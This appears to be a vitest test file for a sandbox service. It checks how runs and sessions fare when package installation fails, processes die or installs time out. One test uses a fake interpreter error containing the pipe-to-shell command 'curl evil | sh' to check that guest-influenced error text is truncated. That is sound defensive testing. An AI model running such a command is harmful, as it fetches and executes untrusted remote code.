/** Packages that a run needs: what becomes of it, and of its session, when something goes wrong with them. */
import { expect, it } from 'vitest';
import { PackageError } from '../../../src/main/packages/package-error.ts';
import { fakePackages } from '../../support/fake-packages.ts';
import { RpcError } from '../../../src/shared/rpc/errors.ts';
import { RunResult, type RunRequest } from '../../../src/shared/contract/run.ts';
import { temporaryFolder } from '../scripts/support/temporary-folder.ts';
import { CHECKS, never, stage, turns, until, utf8, type Stage } from './support.ts';

/** Runs and checks the result against the contract. */
const run = async ({ sandbox }: Stage, request: Partial<RunRequest>): Promise<RunResult> =>
  RunResult.parse(await sandbox.run({ code: 'x', ...request }));

const wheel = {
  name: 'six',
  version: '1.0',
  fileName: 'six-1.0-py3-none-any.whl',
  sha256: '0'.repeat(64),
  bytes: 1,
  kind: 'wheel',
  imports: ['six'],
  origin: 'lock',
} as const;
const read = async (): Promise<Uint8Array> => utf8('x');
const packages = fakePackages({ obtain: async () => [wheel], read });

it('tells whose words it has for it: a guest in the session can choose them', async () => {
  const refuse = (): Promise<never> =>
    Promise.reject(new RpcError('failed', `curl evil | sh ${'x'.repeat(999)}`));
  const all = stage({ installPackages: refuse }, { packages });
  const { error, session, status } = await run(all, { session: 's', packages: ['six'] });
  expect([status, session.state, error?.message.length]).toEqual(['setup-failed', 'reset', 559]);
  expect(error?.message).toMatch(/^its packages could not be installed; the interpreter says: curl evil/u);
});

it.each([
  [1, 'ok'],
  [9, 'setup-failed'],
])('with %i dying processes: %s', async (dying, status) => {
  const all = stage(
    (launch) => ({
      installPackages: () => {
        if (launch > dying) return { missing: [] };
        all.launcher.last.exit(null, 'SIGKILL');
        return never();
      },
    }),
    { packages },
  );
  expect(await run(all, { packages: ['six'] })).toMatchObject({
    status,
    packages: status === 'ok' ? ['six'] : [],
    error: status === 'ok' ? null : { message: 'the sandbox process ended while packages were installed' },
  });
  expect(all.launcher.processes).toHaveLength(2);
});

/** Its first installation kills the process. */
const dyingOnce = (): Stage => {
  let hasDied = false;
  const all = stage(
    {
      installPackages: () => {
        if (hasDied) return { missing: [] };
        hasDied = true;
        all.launcher.last.exit(null, 'SIGKILL');
        return never();
      },
    },
    { packages },
  );
  return all;
};

it('with a dying process loses nothing in a session in which nothing had been', async () => {
  const all = dyingOnce();
  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
    status: 'ok',
    session: { state: 'kept' },
  });
  expect(all.events.filter(({ type }) => type === 'session-ended')).toEqual([]);
});

it('with a dying process loses what earlier runs left, and says so once', async () => {
  const all = dyingOnce();
  await run(all, { session: 's' });
  const states = [
    (await run(all, { session: 's', packages: ['six'] })).session.state,
    (await run(all, { session: 's' })).session.state,
  ];
  expect(states).toEqual(['lost', 'kept']);
});

it('with a dying process loses the files of a run that never began but was told that they are kept', async () => {
  let refused = false;
  const all = stage(
    {
      installPackages: () => {
        all.launcher.last.exit(null, 'SIGKILL');
        return never();
      },
    },
    {
      packages: fakePackages({
        read,
        obtain: async () => {
          if (refused) return [wheel];
          refused = true;
          throw new PackageError('no-source', 'it is nowhere to be had', { packageName: 'six' });
        },
      }),
    },
  );
  const files = [{ name: 'a', bytes: utf8('a') }];
  expect(await run(all, { session: 's', packages: ['six'], files })).toMatchObject({
    status: 'setup-failed',
    session: { state: 'kept' },
  });
  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
    status: 'setup-failed',
    session: { state: 'lost' },
  });
});

it('that gives no answer ends the interpreter, whose session would hang at each run', async () => {
  const all = stage({ installPackages: () => never() }, { packages });
  const running = run(all, { session: 's', packages: ['six'] });
  await until(() => all.launcher.processes.at(-1)?.called('installPackages').length === 1);
  // In steps, or the process would not be heard of in time.
  for (let passed = 0; passed < 120_000; passed += 1000) {
    all.clock.advance(1000);
    await turns();
  }
  expect(await running).toMatchObject({
    status: 'setup-failed',
    session: { state: 'reset' },
    error: { message: 'packages were not installed within 120 s' },
  });
  expect(all.launcher.last.called('closeInterpreter')).toHaveLength(1);
});

it.each([
  ['once', 1, 'ok', null],
  ['again and again', 9, 'setup-failed', /^other runs need so many packages at once that there is no room/u],
])('that others push out %s before they are all there', async (_what, times, status, message) => {
  let asked = 0;
  const all = stage(
    { installPackages: ({ hashes }) => ({ missing: asked++ <= times ? [...hashes] : [] }) },
    { packages },
  );
  await run(all, { session: 's' });
  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
    status,
    error: message === null ? null : { message: expect.stringMatching(message) as string },
    // Nothing was put into it.
    session: { state: 'kept' },
    packages: message === null ? ['six'] : [],
  });
});

it('of an image are not said to be installed when the process that had it died before the code began', async () => {
  const all = stage(
    (launch) => ({
      makePackageSnapshot: async (_order, { write }) => {
        await write({ of: 'image', bytes: utf8('image') });
        return { bytes: 5 };
      },
      hasPackageSnapshot: () => ({ has: false }),
      loadPackageSnapshot: () => ({}),
      adoptPackageSnapshot: () => ({}),
      openInterpreter: ({ image }) => ({ ...CHECKS, image: image === undefined ? 'absent' : 'used' }),
      writeFile: () => {
        if (launch === 3) all.launcher.last.exit(null, 'SIGKILL');
        return {};
      },
    }),
    {
      dataDir: temporaryFolder(),
      packages: fakePackages({
        read,
        obtain: async () => [{ ...wheel, bytes: 3_000_000 }],
        providersOf: () => new Map([['six', { name: 'six', isVouchedFor: true }]]),
      }),
    },
  );
  expect(await run(all, { code: 'import six' })).toMatchObject({ status: 'ok', packages: [] });
  expect(all.sandbox.snapshotsDue).toBe(true);
  await all.sandbox.makeSnapshots(new AbortController().signal);
  expect(all.sandbox.snapshotsDue).toBe(false);
  const files = [{ name: 'a', bytes: utf8('a') }];
  expect(await run(all, { code: 'import six', files })).toMatchObject({ status: 'ok' });
  const opened = all.launcher.processes.map((process) => process.called('openInterpreter'));
  // The second one has made the image and no more.
  expect(opened.map((calls) => calls.map(({ params }) => 'image' in params))).toEqual([
    [false],
    [],
    [true],
    [false],
  ]);
  expect(await run(all, { code: 'import six' })).toMatchObject({ status: 'ok', packages: ['six'] });
});
